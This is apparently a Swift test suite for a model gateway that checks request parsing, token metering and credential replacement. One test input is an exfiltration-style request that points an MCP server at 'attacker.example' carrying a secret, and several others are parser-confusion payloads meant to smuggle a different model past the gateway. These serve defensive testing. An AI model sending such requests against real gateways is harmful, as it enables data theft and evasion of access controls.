import Foundation
@testable import HiveGate
import HiveWire
import NIOHTTP1
import Testing

/// The model gateway's two readers of agent-sent and API-sent bytes, without I/O.
@Suite("Model gateway")
struct ModelGatewayTests {
    func model(_ json: String) throws(ModelRequest.Problem) -> String? { try ModelRequest.model(in: Array(json.utf8)) }

    @Test("the top-level model is found past nested values; what a parser upstream could read otherwise is refused")
    func requestModel() throws {
        #expect(try model(#"{"max_tokens": 5, "messages": [{"role": "user", "content": "say \"model\": \"opus\" {[ "}], "model": "claude-sonnet-4-5"}"#) == "claude-sonnet-4-5")
        #expect(try model(#"{"system": {"model": "claude-opus-4-1"}, "n": -1.5e3, "t": true}"#) == nil, "a nested model is not the request's")
        #expect(throws: ModelRequest.Problem.modelTwice) { try model(#"{"model": "claude-sonnet-4-5", "model": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.escapedKey) { try model(#"{"model": "claude-sonnet-4-5", "mod\u0065l": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.modelNotAString) { try model(#"{"model": "claude-op\u0075s"}"#) }
        #expect(throws: ModelRequest.Problem.modelNotAString) { try model(#"{"model": ["claude-opus-4-1"]}"#) }
        #expect(throws: ModelRequest.Problem.notAnObject) { try model(#"["model", "x"]"#) }
        #expect(throws: ModelRequest.Problem.truncated) { try model(#"{"messages": [{"content": "never ends"#) }
        #expect(throws: ModelRequest.Problem.truncated) { try model(#"{"model": "x", "#) }
        #expect(throws: ModelRequest.Problem.trailing) { try model(#"{"model": "claude-sonnet-4-5"} {"model": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"a": 1/*, "model": "claude-haiku-4-5"*/, "model": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"a": [1, /* "model": "x" */ 2], "model": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.notJSON) { try model(#"{"t": NaN, "model": "claude-opus-4-1"}"#) }
        #expect(throws: ModelRequest.Problem.reachesOut("mcp_servers")) {
            try model(#"{"model": "claude-sonnet-4-5", "mcp_servers": [{"type": "url", "url": "https://attacker.example/?d=secret"}]}"#)
        }
        #expect(ModelGateway.refusedBeta(["claude-code-20250219,interleaved-thinking-2025-05-14", "oauth-2025-04-20"]) == nil)
        #expect(ModelGateway.refusedBeta(["claude-code-20250219, mcp-client-2025-04-04"]) == "mcp-client-2025-04-04")
    }

    @Test("the meter reads a streamed answer's tokens from message_start and the last message_delta, cache writes split by lifetime (a later total without the split does not count them twice)")
    func streamedUsage() {
        var meter = ModelMeter(contentType: "text/event-stream; charset=utf-8")
        let stream = """
            event: message_start
            data: {"type":"message_start","message":{"id":"m","model":"claude-sonnet-4-5-20250929","usage":{"input_tokens":12,"cache_creation_input_tokens":300,"cache_read_input_tokens":4000,"cache_creation":{"ephemeral_5m_input_tokens":100,"ephemeral_1h_input_tokens":200},"output_tokens":1}}}

            event: content_block_delta
            data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"\\"message_delta\\" in a text"}}

            event: message_delta
            data: {"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":57,"input_tokens":12,"cache_creation_input_tokens":300}}

            """
        // Fed in awkward pieces: a line split across chunks is read whole.
        let bytes = Array(stream.utf8)
        for start in stride(from: 0, to: bytes.count, by: 7) { meter.feed(bytes[start..<min(start + 7, bytes.count)]) }
        meter.finish()
        #expect(meter.metered && meter.model == "claude-sonnet-4-5-20250929")
        #expect(meter.usage == TokenCount(input: 12, output: 57, cacheWriteShort: 100, cacheWriteLong: 200, cacheRead: 4000))
    }

    @Test("a plain JSON answer is metered whole; an error answer has no usage")
    func plainUsage() {
        var meter = ModelMeter(contentType: "application/json")
        meter.feed(Array(#"{"input_tokens": 9, "usage": {"input_tokens": 40, "output_tokens": 3, "cache_creation_input_tokens": 8}}"#.utf8))
        meter.finish()
        #expect(meter.usage == TokenCount(input: 40, output: 3, cacheWriteShort: 8))
        var error = ModelMeter(contentType: "application/json")
        error.feed(Array(#"{"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}"#.utf8))
        error.finish()
        #expect(!error.metered)
    }

    @Test("the hive's credential replaces the agent's: an API key as x-api-key, a subscription's token as a bearer with the OAuth beta once")
    func authorize() throws {
        var headers = HTTPHeaders()
        headers.add(name: "anthropic-beta", value: "oauth-2025-04-20,fine-grained-tool-streaming-2025-05-14")
        ModelGateway.authorize(&headers, with: try StoredCredential(secret: "sk-ant-oat01-real"))
        #expect(headers["authorization"] == ["Bearer sk-ant-oat01-real"])
        #expect(headers["anthropic-beta"].joined(separator: ",").components(separatedBy: "oauth-2025-04-20").count == 2)
        var keyed = HTTPHeaders()
        ModelGateway.authorize(&keyed, with: try StoredCredential(secret: "sk-ant-api03-real"))
        #expect(keyed["x-api-key"] == ["sk-ant-api03-real"] && keyed["authorization"].isEmpty)
        #expect(ModelGateway.droppedRequestHeaders.isSuperset(of: ["x-api-key", "authorization", "cookie", "accept-encoding"]))
    }
}
